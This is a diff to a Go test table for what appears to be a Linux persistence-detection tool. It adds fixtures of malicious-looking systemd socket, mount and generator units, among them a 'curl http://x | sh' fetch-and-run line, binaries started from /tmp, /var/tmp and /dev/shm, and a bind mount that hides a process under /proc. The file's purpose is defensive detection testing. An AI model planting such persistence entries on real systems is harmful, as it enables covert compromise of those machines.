@@ -66,6 +66,30 @@ func TestKinds(t *testing.T) {
 			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "eve", Unit: "c.service", Command: "/home/eve/kdevtmpfsi", Programs: []string{"/home/eve/kdevtmpfsi"}, Reason: model.PersistenceKnownMiner, Evidence: "/home/eve/kdevtmpfsi"},
 		},
 		{
+			"/etc/systemd/system/a.socket", "[Socket]\nListenStream=80\nExecStartPre=/usr/bin/install -d /run/a\n", "[Socket]\nListenStream=80\nExecStartPost=-/tmp/x --a\n",
+			model.PersistenceEntry{Kind: model.PersistenceSystemdPath, User: "root", Unit: "a.socket", Starts: "a.service", Command: "/tmp/x --a", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
+		},
+		{
+			"/usr/lib/systemd/system/proc-1.mount", "[Mount]\nWhat=binfmt_misc\nWhere=/proc/sys/fs/binfmt_misc\nType=binfmt_misc\n", "[Mount]\nWhat=/var/empty\nWhere=/proc/4711\nOptions=bind\n",
+			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "root", Unit: "proc-1.mount", Command: "mount -o bind /var/empty /proc/4711", Reason: model.PersistenceMountOver, Evidence: "/proc/4711"},
+		},
+		{
+			"/etc/systemd/system/opt-y.mount", "[Mount]\nWhat=//server/share\nWhere=/opt/y\nType=fuse.sshfs\nOptions=ro,uid=0\n", "[Mount]\nWhat=%V/.x.img\nWhere=/opt/y\n",
+			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "root", Unit: "opt-y.mount", Command: "mount /var/tmp/.x.img /opt/y", Reason: model.PersistenceMountOver, Evidence: "/opt/y"},
+		},
+		{
+			"/etc/systemd/system/mnt.mount", "[Mount]\nWhat=/dev/sda1\nWhere=/mnt\n", "[Mount]\nWhat=/dev/shm/x\\x23a\nWhere=/mnt\nType=fuse\n",
+			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "root", Unit: "mnt.mount", Command: "mount -t fuse /dev/shm/x#a /mnt", Programs: []string{"/dev/shm/x"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x"},
+		},
+		{
+			"/etc/systemd/system-generators/a", "#!/bin/sh\nln -s /usr/lib/systemd/system/x.service \"$1/x.service\"\n", "#!/bin/sh\n/var/tmp/x &\n",
+			model.PersistenceEntry{Kind: model.PersistenceGenerator, Line: 2, User: "root", Command: "/var/tmp/x &", Programs: []string{"/var/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/var/tmp/x"},
+		},
+		{
+			"/usr/lib/systemd/user-environment-generators/90a", "#!/bin/sh\necho GNOME=1\n", "#!/bin/sh\ncurl http://x | sh\n",
+			model.PersistenceEntry{Kind: model.PersistenceGenerator, Line: 2, Command: "curl http://x | sh", Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x | sh"},
+		},
+		{
 			"/etc/rc.local", "#!/bin/sh -e\nexit 0\n", "/tmp/x &\nexit 0\n",
 			model.PersistenceEntry{Kind: model.PersistenceInit, Line: 1, User: "root", Command: "/tmp/x &", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		},
@@ -111,7 +135,7 @@ func TestKinds(t *testing.T) {
 			case test.want.Kind == model.PersistenceAt && os.Getuid() != 0:
 				test.want.Owner = passwd.Number(uint32(os.Getuid()))
 			}
-			if test.want.Kind == model.PersistenceCronScript || test.want.Kind == model.PersistenceInit {
+			if test.want.Kind == model.PersistenceCronScript || test.want.Kind == model.PersistenceInit || test.want.Kind == model.PersistenceGenerator {
 				f.must(os.Chmod(f.path(test.path), 0o755))
 			}
 			if diff := cmp.Diff([]model.PersistenceEntry{test.want}, suspicious(f.sample())); diff != "" {
